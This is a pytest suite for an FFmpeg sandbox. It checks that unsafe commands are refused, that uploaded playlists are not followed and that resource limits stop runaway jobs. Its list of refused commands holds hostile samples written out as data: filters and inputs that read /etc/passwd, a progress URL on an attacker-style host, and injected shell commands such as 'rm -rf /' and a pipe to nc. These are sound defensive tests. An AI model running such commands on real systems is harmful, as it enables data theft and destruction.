"""The FFmpeg sandbox: hostile commands are refused with a reason, accepted ones run on the real
ffmpeg, uploaded playlists and concat lists are not followed, and a runaway, cancelled, CPU-hungry
or oversized run is stopped cleanly (its whole process group gone, its directory removed).

Unit level: media.sandbox and media.run only, with the real ffmpeg/ffprobe; no Redis, no API.
"""

from __future__ import annotations

import os
import sys
import shutil
import subprocess
import time
from pathlib import Path

import pytest

from gengate.media.run import (Limits, MediaCancelled, MediaFailed, MediaTimeout, MediaToolMissing, job_dir, probe,
                       run_ffmpeg, tool)
from gengate.media.sandbox import INPUT_GUARD, Plan, UnsafeCommand, plan_command

needs_ffmpeg = pytest.mark.skipif(not (shutil.which("ffmpeg") and shutil.which("ffprobe")),
                                  reason="ffmpeg/ffprobe not installed")

LIMITS = Limits(seconds=20, cpu_seconds=20, max_output_bytes=50 * 1024**2, max_memory_bytes=2 * 1024**3,
                max_files=8)
IN = {"in_1": "/tmp/job/in_1.mp4"}
OUT = {"out_1": "/tmp/job/out/out_1_result.mp4"}


def _limits(**changes) -> Limits:
    return Limits(**{**LIMITS.__dict__, **changes})


@pytest.fixture(scope="session")
def clip(tmp_path_factory) -> Path:
    """One second of 64x48 video at 25 fps with a sine tone: H.264 + AAC in MP4."""
    path = tmp_path_factory.mktemp("media") / "clip.mp4"
    subprocess.run(["ffmpeg", "-nostdin", "-hide_banner", "-loglevel", "error", "-y",
                    "-f", "lavfi", "-i", "testsrc=d=1:s=64x48:r=25", "-f", "lavfi", "-i", "sine=d=1",
                    "-c:v", "libx264", "-preset", "ultrafast", "-pix_fmt", "yuv420p", "-c:a", "aac", "-shortest",
                    str(path)], check=True, timeout=30)
    return path


@pytest.fixture
def job(clip) -> Path:
    """A job directory like the worker's (where the worker makes them: FFmpeg may run as another user,
    who cannot enter pytest's private tmp_path): the input as in_1.mp4, an out/ directory for outputs."""
    with job_dir() as d:
        shutil.copy(clip, d / "in_1.mp4")
        (d / "out").mkdir()
        yield d


def _plan(job: Path, command: str, outputs: dict[str, str], inputs: dict[str, str] | None = None) -> Plan:
    ins = {"in_1": str(job / "in_1.mp4")} if inputs is None else inputs
    return plan_command(command, ins, {k: str(job / "out" / v) for k, v in outputs.items()})


def _processes_mentioning(text: str) -> list[int]:
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
        except OSError:
            continue
        if text.encode() in cmdline:
            found.append(int(pid))
    return found


# -- refused commands -------------------------------------------------------------------------------

HOSTILE = [
    # reading other files through filters
    ("-i {{in_1}} -vf movie=/etc/passwd {{out_1}}", "movie"),
    ("-i {{in_1}} -vf \"movie=in_1.mp4 [m]; [in][m] overlay\" {{out_1}}", "movie"),
    ("-i {{in_1}} -filter_complex \"movie=/etc/passwd[x];[0:v][x]overlay\" {{out_1}}", "movie"),
    ("-i {{in_1}} -lavfi \"movie=x.mp4[a];[0:v][a]overlay\" {{out_1}}", "movie"),
    ("-i {{in_1}} -vf \"mo\\\\vie=x.mp4\" {{out_1}}", "movie"),
    ("-i {{in_1}} -vf \"'movie'=x.mp4\" {{out_1}}", "movie"),
    ("-i {{in_1}} -af amovie=/etc/passwd {{out_1}}", "amovie"),
    ("-i {{in_1}} -filter:a \"amovie=x.wav\" {{out_1}}", "amovie"),
    ("-i {{in_1}} -vf drawtext=textfile=/etc/passwd {{out_1}}", "textfile"),
    ("-i {{in_1}} -vf \"drawtext=fontfile=x.ttf:text=a\" {{out_1}}", "fontfile"),
    ("-i {{in_1}} -vf subtitles=/etc/passwd {{out_1}}", "subtitles"),
    ("-i {{in_1}} -vf \"ass=x.ass\" {{out_1}}", "ass"),
    ("-i {{in_1}} -vf lut3d=lut.cube {{out_1}}", "lut3d"),
    ("-i {{in_1}} -vf \"sendcmd=f=cmds.txt,drawbox\" {{out_1}}", "sendcmd"),
    ("-i {{in_1}} -vf \"zmq,drawbox\" {{out_1}}", "zmq"),
    ("-i {{in_1}} -vf \"frei0r=distort0r\" {{out_1}}", "frei0r"),
    ("-i {{in_1}} -af \"ladspa=file=amp\" {{out_1}}", "ladspa"),
    ("-i {{in_1}} -af \"arnndn=m=model.rnnn\" {{out_1}}", "arnndn"),
    ("-i {{in_1}} -vf \"dnn_processing=model=x.pb\" {{out_1}}", "dnn_processing"),
    ("-i {{in_1}} -vf \"scale_cuda=32:24\" {{out_1}}", "scale_cuda"),
    ("-i {{in_1}} -vf \"hwupload,scale_vaapi=32:24\" {{out_1}}", "hwupload"),
    ("-i {{in_1}} -vf \"curves=psfile=x.acv\" {{out_1}}", "psfile"),
    ("-i {{in_1}} -vf \"metadata=mode=print:file=leak.txt\" {{out_1}}", "file"),
    ("-i {{in_1}} -lavfi \"[0:v][0:v]psnr=stats_file=s.log\" {{out_1}}", "stats_file"),
    ("-i {{in_1}} -vf \"vidstabdetect=result=t.trf\" {{out_1}}", "vidstabdetect"),
    # inputs that are not placeholders
    ("-i file:/etc/passwd {{out_1}}", "not a placeholder"),
    ("-i /etc/passwd {{out_1}}", "not a placeholder"),
    ("-i http://example.com/x.mp4 {{out_1}}", "not a placeholder"),
    ("-i {{in_1}} -i tcp://10.0.0.1:80 {{out_1}}", "not a placeholder"),
    ("-i {{in_1}} concat:{{in_1}}|/etc/passwd {{out_1}}", "placeholder"),
    ("-i {{in_1}} concat:a.mp4|b.mp4 {{out_1}}", "placeholder"),
    ("-f lavfi -i testsrc {{out_1}}", "lavfi"),
    ("-f concat -i {{in_1}} {{out_1}}", "concat"),
    ("-f concat -safe 0 -i {{in_1}} {{out_1}}", "concat"),
    ("-f hls -i {{in_1}} {{out_1}}", "hls"),
    ("-f v4l2 -i /dev/video0 {{out_1}}", "v4l2"),
    ("-f x11grab -i :0.0 {{out_1}}", "x11grab"),
    ("-f alsa -i default {{out_1}}", "alsa"),
    ("-i:v {{in_1}} {{out_1}}", "-i:v"),
    # options that read or write files, devices, URLs
    ("-i {{in_1}} -filter_script x {{out_1}}", "-filter_script"),
    ("-i {{in_1}} -filter_complex_script g.txt {{out_1}}", "-filter_complex_script"),
    ("-i {{in_1}} -/vf graph.txt {{out_1}}", "file"),
    ("-dump_attachment:t out.bin -i {{in_1}} {{out_1}}", "-dump_attachment"),
    ("-i {{in_1}} -attach /etc/passwd {{out_1}}", "-attach"),
    ("-i {{in_1}} -progress http://evil.example/p {{out_1}}", "-progress"),
    ("-i {{in_1}} -vstats_file v.log {{out_1}}", "-vstats_file"),
    ("-i {{in_1}} -c:v libx264 -pass 1 -passlogfile x {{out_1}}", "-pass"),
    ("-report -i {{in_1}} {{out_1}}", "-report"),
    ("-i {{in_1}} -sdp_file s.sdp {{out_1}}", "-sdp_file"),
    ("-init_hw_device vaapi=va:/dev/dri/renderD128 -i {{in_1}} {{out_1}}", "-init_hw_device"),
    ("-hwaccel cuda -i {{in_1}} {{out_1}}", "-hwaccel"),
    ("-protocol_whitelist file,http -i {{in_1}} {{out_1}}", "-protocol_whitelist"),
    ("-format_whitelist concat -i {{in_1}} {{out_1}}", "-format_whitelist"),
    ("-enable_drefs 1 -i {{in_1}} {{out_1}}", "-enable_drefs"),
    ("-stream_loop -1 -i {{in_1}} {{out_1}}", "-stream_loop"),
    ("-i {{in_1}} -vpre slow {{out_1}}", "preset"),
    ("-i {{in_1}} -x264-params stats=/tmp/x.log {{out_1}}", "path"),
    ("-i {{in_1}} -x264-params qpfile=../../etc/passwd {{out_1}}", ".."),
    ("-i {{in_1}} -metadata comment=http://evil.example {{out_1}}", "protocol"),
    ("-h full", "information"),
    # muxers writing other files
    ("-i {{in_1}} -f segment out%03d.mp4", "segment"),
    ("-i {{in_1}} -f segment {{out_1}}", "segment"),
    ("-i {{in_1}} -f image2 out%05d.png", "placeholder"),
    ("-i {{in_1}} -f tee \"a.mp4|http://x\"", "tee"),
    ("-i {{in_1}} -f hls -hls_time 1 {{out_1}}", "hls"),
    ("-i {{in_1}} -hls_segment_filename /tmp/s%d.ts {{out_1}}", "-hls_segment_filename"),
    ("-i {{in_1}} -segment_list l.txt {{out_1}}", "-segment_list"),
    ("-i {{in_1}} -f dash {{out_1}}", "dash"),
    ("-i {{in_1}} -f rtp rtp://1.2.3.4:5 ", "rtp"),
    # outputs that are not placeholders; the shell is never involved
    ("-i {{in_1}} out.mp4", "placeholder"),
    ("-i {{in_1}} /tmp/out.mp4", "placeholder"),
    ("-i {{in_1}} - ", "placeholder"),
    ("-i {{in_1}} -- {{out_1}}", "--"),
    ("-i {{in_1}} {{out_1}} ; rm -rf /", "';'"),
    ("-i {{in_1}} {{out_1}} && cat /etc/passwd", "'&&'"),
    ("-i {{in_1}} $(id) {{out_1}}", "$(id)"),
    ("-i {{in_1}} `id` {{out_1}}", "`id`"),
    ("-i {{in_1}} {{out_1}} | nc evil 1", "'|'"),
    # placeholder rules
    ("-i {{in_1}} {{out_2}}", "no such output"),
    ("-i {{in_2}} {{out_1}}", "no such input"),
    ("-i {{out_1}} {{out_1}}", "output"),
    ("-i {{in_1}} {{in_1}}", "input"),
    ("{{in_1}} -i {{in_1}} {{out_1}}", "input"),
    ("-i {{in_1}} {{out_1}} {{out_1}}", "more than once"),
    ("-i {{in_1}} -metadata title={{in_1}} {{out_1}}", "whole argument"),
    ("-i {{in_1}} -metadata {{in_1}} {{out_1}}", "cannot be the value"),
    ("-i \"{{in_1}}x\" {{out_1}}", "not a placeholder"),
    ("-i {{in_1}} {{ out_1 }} {{out_1}}", "not a placeholder"),
    ("-i {{IN_1}} {{out_1}}", "not a placeholder"),
    ("-i {{in_1}}", "no output"),
    ("-i {{in_1}} -vf \"scale=1:1 {{out_1}}", "quotes"),
    ("", "empty"),
    ("ffmpeg", "empty"),
]


@pytest.mark.parametrize("command,reason", HOSTILE, ids=[c[:60] for c, _ in HOSTILE])
def test_hostile_command_is_refused_with_a_reason(command: str, reason: str) -> None:
    with pytest.raises(UnsafeCommand) as refused:
        plan_command(command, IN, OUT)
    assert reason.lower() in str(refused.value).lower(), str(refused.value)


def test_a_fork_bomb_of_outputs_is_refused() -> None:
    many = "-i {{in_1}} " + " ".join(["{{out_1}}"] * 1000)
    with pytest.raises(UnsafeCommand):
        plan_command(many, IN, OUT)
    numbered = "-i {{in_1}} " + " ".join(f"{{{{out_{n}}}}}" for n in range(1, 1001))
    with pytest.raises(UnsafeCommand):
        plan_command(numbered, IN, OUT)
    with pytest.raises(UnsafeCommand, match="no such output"):
        plan_command("-i {{in_1}} " + " ".join(f"{{{{out_{n}}}}}" for n in range(1, 60)), IN, OUT)
    with pytest.raises(UnsafeCommand, match="placeholder"):
        plan_command("-i {{in_1}} " + " ".join(f"o{n}.mp4" for n in range(300)), IN, OUT)
    with pytest.raises(UnsafeCommand, match="more than 400 arguments"):
        plan_command("-i {{in_1}} " + "-an " * 500 + "{{out_1}}", IN, OUT)
    eleven = {f"out_{n}": f"/tmp/job/out/o{n}.mp4" for n in range(1, 12)}
    with pytest.raises(UnsafeCommand, match="at most 8"):
        plan_command("-i {{in_1}} " + " ".join(f"{{{{{k}}}}}" for k in eleven), IN, eleven)


def test_every_declared_file_is_used() -> None:
    with pytest.raises(UnsafeCommand, match="never reads"):
        plan_command("-i {{in_1}} {{out_1}}", {**IN, "in_2": "/tmp/job/in_2.wav"}, OUT)
    with pytest.raises(UnsafeCommand, match="never writes"):
        plan_command("-i {{in_1}} {{out_1}}", IN, {**OUT, "out_2": "/tmp/job/out/b.wav"})


@pytest.mark.parametrize("outputs", [{"out_1": "/tmp/job/out/out_1_%03d.png"}, {"out_1": "/tmp/job/out/x.m3u8"},
                                     {"out_1": "/tmp/job/out/x.mpd"}, {"out_1": "out.mp4"},
                                     {"out_1": "/tmp/job/../etc/x.mp4"}, {"out_1": "/tmp/job/out/*.mp4"}])
def test_output_names_that_would_become_patterns_or_playlists_are_refused(outputs: dict[str, str]) -> None:
    with pytest.raises(UnsafeCommand):
        plan_command("-i {{in_1}} {{out_1}}", IN, outputs)


def test_plan_substitutes_paths_and_adds_the_guards() -> None:
    plan = plan_command("ffmpeg -ss 0.5 -i {{in_1}} -vf scale=640:480 -map 0:v:0 -c:v libx264 {{out_1}}", IN, OUT)
    assert plan.args[:5] == ["-nostdin", "-hide_banner", "-y", "-loglevel", "error"]
    i = plan.args.index("-i")
    assert plan.args[i + 1] == IN["in_1"] and plan.args[-1] == OUT["out_1"]
    assert plan.args[i - len(INPUT_GUARD):i] == list(INPUT_GUARD)
    assert plan.args[i - len(INPUT_GUARD) - 2:i - len(INPUT_GUARD)] == ["-ss", "0.5"]  # stays an input option
    assert "{{" not in " ".join(plan.args)
    assert plan.inputs == IN and plan.outputs == OUT


ORDINARY = [
    "-i {{in_1}} -vf scale=640:480 -c:v libx264 {{out_1}}",
    "-ss 00:00:01.5 -t 2 -i {{in_1}} -map 0:v:0 -map 0:a? -c:v libx264 -b:v 1M -c:a aac -b:a 128k {{out_1}}",
    "-i {{in_1}} -filter_complex \"[0:v]split[a][b];[a]scale=iw/2:-2[s];[b][s]overlay=x=(W-w)/2:y=10[v]\" "
    "-map \"[v]\" {{out_1}}",
    "-i {{in_1}} -vf \"drawtext=text='Hello\\: world':x=(w-tw)/2:y=h-th-10:fontsize=24\" {{out_1}}",
    "-noautorotate -i {{in_1}} -r 30000/1001 -aspect 16:9 -metadata:s:a:0 language=eng -movflags +faststart {{out_1}}",
    "-i {{in_1}} -af \"volume=0.5,aresample=async=1:first_pts=0,atempo=1.25\" -vn {{out_1}}",
    "-i {{in_1}} -x264-params keyint=60:min-keyint=60 -preset veryfast -crf 23 -pix_fmt yuv420p {{out_1}}",
    "-i {{in_1}} -c copy -copyts -start_at_zero -map_metadata 0 -metadata title=\"My clip\" -shortest {{out_1}}",
    "-i {{in_1}} -vf \"select='eq(n\\,0)',setpts=N/FRAME_RATE/TB\" -frames:v 1 {{out_1}}",
]


@pytest.mark.parametrize("command", ORDINARY)
def test_ordinary_commands_are_accepted(command: str) -> None:
    plan_command(command, IN, OUT)


# -- accepted commands run on the real ffmpeg -------------------------------------------------------

RUNNABLE = [
    ("-i {{in_1}} -vf scale=32:24 -c:v libx264 -preset ultrafast -an {{out_1}}", "a.mp4", "h264", 32),
    ("-ss 0.2 -t 0.5 -i {{in_1}} -map 0:v:0 -c:v libx264 -preset ultrafast -b:v 200k -an {{out_1}}", "b.mp4", "h264",
     64),
    ("-noautorotate -i {{in_1}} -filter_complex \"[0:v]scale=iw/2:-2,setpts=PTS/2[v]\" -map \"[v]\" -an -y {{out_1}}",
     "c.mkv", None, 32),
    ("-i {{in_1}} -vn -af \"volume=0.5,aresample=22050\" -c:a libmp3lame {{out_1}}", "d.mp3", "mp3", None),
    ("-i {{in_1}} -vf \"fps=5,scale=32:-1:flags=lanczos\" -loop 0 {{out_1}}", "e.gif", "gif", 32),
    ("-i {{in_1}} -c copy -copyts -start_at_zero -map_metadata 0 -metadata title=\"demo\" -movflags +faststart "
     "{{out_1}}", "f.mp4", "h264", 64),
    ("-i {{in_1}} -vn -c:a aac -b:a 64k -ac 1 -ar 22050 -f adts {{out_1}}", "g.aac", "aac", None),
    ("-i {{in_1}} -vf \"select='eq(n\\,0)'\" -frames:v 1 {{out_1}}", "h.png", "png", 64),
]


@needs_ffmpeg
@pytest.mark.parametrize("command,name,codec,width", RUNNABLE, ids=[r[1] for r in RUNNABLE])
def test_accepted_command_runs_and_writes_its_output(job: Path, command: str, name: str, codec: str | None,
                                                     width: int | None) -> None:
    plan = _plan(job, command, {"out_1": name})
    run_ffmpeg(plan.args, workdir=job, limits=LIMITS)
    out = Path(plan.outputs["out_1"])
    assert out.is_file() and out.stat().st_size > 0
    info = probe(out, limits=LIMITS)
    stream = info["streams"][0]
    if codec:
        assert stream["codec_name"] == codec
    if width:
        assert stream["width"] == width


@needs_ffmpeg
def test_two_inputs_and_two_outputs(job: Path) -> None:
    subprocess.run(["ffmpeg", "-nostdin", "-loglevel", "error", "-f", "lavfi", "-i", "sine=f=880:d=1",
                    str(job / "in_2.wav")], check=True, timeout=30)
    plan = _plan(job, "-i {{in_1}} -i {{in_2}} -map 0:v -map 1:a -c:v libx264 -preset ultrafast -c:a aac -shortest "
                 "{{out_1}} -map 1:a {{out_2}}", {"out_1": "both.mp4", "out_2": "tone.wav"},
                 {"in_1": str(job / "in_1.mp4"), "in_2": str(job / "in_2.wav")})
    assert plan.args.count("-protocol_whitelist") == 2
    run_ffmpeg(plan.args, workdir=job, limits=LIMITS)
    kinds = [s["codec_type"] for s in probe(Path(plan.outputs["out_1"]), limits=LIMITS)["streams"]]
    assert sorted(kinds) == ["audio", "video"]
    assert probe(Path(plan.outputs["out_2"]), limits=LIMITS)["streams"][0]["codec_name"] == "pcm_s16le"


# -- uploaded playlists and lists are not followed ---------------------------------------------------

SNEAKY_INPUTS = [
    ("in_1.txt", "ffconcat version 1.0\nfile /etc/passwd\n"),
    ("in_1.ffconcat", "ffconcat version 1.0\nfile 'secret.mp4'\n"),
    ("in_1.mp4", "ffconcat version 1.0\nfile 'secret.mp4'\n"),  # the extension lies
    ("in_1.m3u8", "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n"),
    ("in_1.m3u8", "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nsecret.mp4\n#EXT-X-ENDLIST\n"),
    ("in_1.sdp", "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\n"),
]


@needs_ffmpeg
@pytest.mark.parametrize("name,content", SNEAKY_INPUTS, ids=[f"{n}:{c[:12]}" for n, c in SNEAKY_INPUTS])
def test_an_uploaded_list_or_playlist_is_not_followed(clip: Path, name: str, content: str) -> None:
    with job_dir() as job:
        shutil.copy(clip, job / "secret.mp4")  # what a list could otherwise pull in from next to it
        (job / name).write_text(content)
        (job / "out").mkdir()
        plan = _plan(job, "-i {{in_1}} -map 0 -c copy {{out_1}}", {"out_1": "copy.mkv"}, {"in_1": str(job / name)})
        with pytest.raises(MediaFailed) as failed:
            run_ffmpeg(plan.args, workdir=job, limits=LIMITS)
        assert "is not accepted" in str(failed.value)  # refused by the demuxer whitelist, nothing else
        assert "root:" not in str(failed.value)
        out = Path(plan.outputs["out_1"])
        assert not out.exists() or b"root:" not in out.read_bytes()
        with pytest.raises(MediaFailed):
            probe(job / name, limits=LIMITS)
        assert str(job) not in str(failed.value)  # our private paths are not in the message


@needs_ffmpeg
def test_without_the_guards_the_same_list_would_be_followed(clip: Path) -> None:
    """The control for the test above: it is the whitelists that stop ffmpeg, not a broken list."""
    with job_dir() as job:
        shutil.copy(clip, job / "secret.mp4")
        (job / "in_1.ffconcat").write_text("ffconcat version 1.0\nfile 'secret.mp4'\n")
        plan = plan_command("-i {{in_1}} -map 0 -c copy {{out_1}}", {"in_1": str(job / "in_1.ffconcat")},
                            {"out_1": str(job / "copy.mkv")})
        unguarded = [a for a in plan.args if a not in INPUT_GUARD]
        run_ffmpeg(unguarded, workdir=job, limits=LIMITS)
        assert (job / "copy.mkv").stat().st_size > 1000


# -- limits ------------------------------------------------------------------------------------------

@needs_ffmpeg
def test_a_runaway_command_is_killed_at_its_time_limit(job: Path) -> None:
    plan = _plan(job, "-stream_loop 100000 -i {{in_1}} -vf scale=640:480 -c:v libx264 -preset medium {{out_1}}",
                 {"out_1": "forever.mp4"})
    started = time.monotonic()
    with pytest.raises(MediaTimeout, match=r"time limit \(2 s\)"):
        run_ffmpeg(plan.args, workdir=job, limits=_limits(seconds=2))
    assert time.monotonic() - started < 4
    assert _processes_mentioning(str(job)) == []  # the whole process group is gone


@needs_ffmpeg
def test_cancellation_stops_the_run(job: Path) -> None:
    plan = _plan(job, "-stream_loop 100000 -i {{in_1}} -c:v libx264 {{out_1}}", {"out_1": "cancelled.mp4"})
    started = time.monotonic()
    with pytest.raises(MediaCancelled):
        run_ffmpeg(plan.args, workdir=job, limits=LIMITS, cancelled=lambda: time.monotonic() - started > 0.5)
    assert time.monotonic() - started < 2
    assert _processes_mentioning(str(job)) == []


@needs_ffmpeg
def test_the_cpu_limit_stops_a_busy_run(job: Path) -> None:
    plan = _plan(job, "-stream_loop 100000 -i {{in_1}} -vf scale=1280:720 -c:v libx264 -preset slow {{out_1}}",
                 {"out_1": "busy.mp4"})
    with pytest.raises(MediaFailed, match="CPU time limit") as failed:
        run_ffmpeg(plan.args, workdir=job, limits=_limits(cpu_seconds=1))
    assert not isinstance(failed.value, MediaTimeout)


@needs_ffmpeg
def test_an_output_larger_than_the_limit_fails_clearly(job: Path) -> None:
    plan = _plan(job, "-stream_loop 20 -i {{in_1}} -c:v rawvideo -c:a pcm_s16le {{out_1}}", {"out_1": "big.avi"})
    with pytest.raises(MediaFailed, match="larger than the limit"):
        run_ffmpeg(plan.args, workdir=job, limits=_limits(max_output_bytes=100_000))
    assert Path(plan.outputs["out_1"]).stat().st_size <= 100_000


@needs_ffmpeg
def test_too_many_files_created_fails(job: Path) -> None:
    # Not reachable through plan_command (image2 patterns are refused there): run_ffmpeg counts anyway.
    args = ["-nostdin", "-loglevel", "error", "-f", "lavfi", "-i", "testsrc=d=1:s=32x24", "-frames:v", "5",
            "frame%02d.png"]
    with pytest.raises(MediaFailed, match="created 5 files; at most 3"):
        run_ffmpeg(args, workdir=job, limits=_limits(max_files=3))
    run_ffmpeg(["-y", *args], workdir=job, limits=_limits(max_files=3))  # overwriting creates nothing new


@needs_ffmpeg
def test_a_failure_says_why_without_our_paths(job: Path) -> None:
    (job / "in_1.mp4").write_bytes(b"not a video at all" * 100)
    plan = _plan(job, "-i {{in_1}} {{out_1}}", {"out_1": "x.mp4"})
    with pytest.raises(MediaFailed) as failed:
        run_ffmpeg(plan.args, workdir=job, limits=LIMITS)
    message = str(failed.value)
    assert "in_1.mp4" in message and str(job) not in message
    assert len(message) <= 2000


@needs_ffmpeg
def test_stderr_is_kept_short_even_when_the_tool_is_chatty(job: Path) -> None:
    args = ["-nostdin", "-y", "-loglevel", "debug", "-i", str(job / "in_1.mp4"), "-c:v", "libx264", "-preset",
            "ultrafast", str(job / "out" / "chatty.mp4")]
    said = run_ffmpeg(args, workdir=job, limits=LIMITS)
    assert len(said) <= 2000 and str(job) not in said


@needs_ffmpeg
def test_probe_describes_a_file(clip: Path) -> None:
    info = probe(clip, limits=LIMITS)
    assert {s["codec_type"] for s in info["streams"]} == {"video", "audio"}
    assert float(info["format"]["duration"]) == pytest.approx(1.0, abs=0.2)


def test_job_dir_is_private_and_removed_even_on_errors(tmp_path: Path) -> None:
    with pytest.raises(RuntimeError):
        with job_dir(tmp_path) as d:
            assert d.is_dir() and d.parent == tmp_path
            assert (d.stat().st_mode & 0o777) == 0o700
            (d / "sub").mkdir()
            (d / "sub" / "file").write_text("x")
            raise RuntimeError("boom")
    assert not d.exists()
    with job_dir(tmp_path) as d2:
        pass
    assert not d2.exists()


def test_a_missing_tool_says_how_to_install_it(tmp_path: Path) -> None:
    with pytest.raises(MediaToolMissing, match="apt-get install -y ffmpeg"):
        tool("ffmpeg-not-installed-here")
    with pytest.raises(MediaToolMissing, match="ffmpeg-not-installed-here"):
        run_ffmpeg(["-version"], workdir=tmp_path, limits=LIMITS, program="ffmpeg-not-installed-here")
    env = {"PATH": str(tmp_path)}  # a PATH with no ffmpeg at all, in a fresh interpreter
    code = ("from gengate.media.run import tool, MediaToolMissing\n"
            "try:\n    tool('ffmpeg')\nexcept MediaToolMissing as e:\n    print(e)\n")
    done = subprocess.run([sys.executable, "-c", code], env=env, cwd=Path(__file__).resolve().parents[1],
                          capture_output=True, text=True, timeout=30)
    assert "apt-get install -y ffmpeg" in done.stdout, done.stderr
